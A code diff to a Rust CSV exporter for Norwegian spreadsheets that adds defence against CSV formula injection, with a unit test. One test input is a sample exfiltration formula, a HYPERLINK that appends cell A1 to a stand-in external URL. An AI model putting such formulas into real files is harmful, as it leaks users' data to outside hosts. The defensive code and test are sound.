@@ -2,7 +2,8 @@
 //!
 //! CSV is written for a Norwegian spreadsheet: UTF-8 with a byte-order mark (so Excel
 //! reads æøå right), `;` between fields (`,` is the decimal sign in Norway), CRLF line
-//! ends, and fields quoted when they hold `;`, `"` or a line break. Times are shown in
+//! ends, and fields quoted when they hold `;`, `"` or a line break. A cell a spreadsheet
+//! would run as a formula is made text (OWASP's advice on CSV injection). Times are shown in
 //! Europe/Oslo as `YYYY-MM-DD HH:MM`; words come from the catalogues in the chosen language.
 
 use chrono::{DateTime, Utc};
@@ -156,6 +157,17 @@ fn local(t: DateTime<Utc>) -> String {
         .to_string()
 }
 
+/// A cell that a spreadsheet would read as a formula (OWASP's «CSV injection»): its
+/// first character is `=`, `+`, `-` or `@` (spreadsheets skip leading spaces before
+/// deciding), or a tab or carriage return. Such a cell gets a leading `'`, which makes
+/// it text in Excel and LibreOffice, and is quoted.
+fn neutralised(field: String) -> String {
+    let lead = field.trim_start_matches([' ', '\u{a0}', '\u{3000}']);
+    let formula = lead.starts_with(['=', '+', '-', '@', '\t', '\r'])
+        || lead.starts_with(['＝', '＋', '－', '＠']);
+    if formula { format!("'{field}") } else { field }
+}
+
 fn push_row(out: &mut String, fields: impl IntoIterator<Item = String>) {
     let mut first = true;
     for field in fields {
@@ -163,7 +175,8 @@ fn push_row(out: &mut String, fields: impl IntoIterator<Item = String>) {
             out.push(SEP);
         }
         first = false;
-        if field.contains([SEP, '"', '\n', '\r']) {
+        let field = neutralised(field);
+        if field.contains([SEP, '"', '\n', '\r', '\t']) || field.starts_with('\'') {
             out.push('"');
             out.push_str(&field.replace('"', "\"\""));
             out.push('"');
@@ -208,6 +221,45 @@ mod tests {
             clock_inputs: None,
             form,
         }
+    }
+
+    #[test]
+    fn a_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_text() {
+        let mut out = String::new();
+        push_row(
+            &mut out,
+            [
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"Klikk\")",
+                "=1+2",
+                " =1+1",
+                "+47 22 00 00 00",
+                "-3",
+                "@SUM(A1)",
+                "\t=1",
+                "\r=1",
+                "＝1+1",
+                "Kundeliste = eksportert",
+                "e-post",
+            ]
+            .map(String::from),
+        );
+        let cells: Vec<&str> = out.trim_end_matches("\r\n").split(SEP).collect();
+        assert_eq!(
+            cells,
+            [
+                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Klikk\"\")\"",
+                "\"'=1+2\"",
+                "\"' =1+1\"",
+                "\"'+47 22 00 00 00\"",
+                "\"'-3\"",
+                "\"'@SUM(A1)\"",
+                "\"'\t=1\"",
+                "\"'\r=1\"",
+                "\"'＝1+1\"",
+                "Kundeliste = eksportert",
+                "e-post",
+            ]
+        );
     }
 
     #[test]
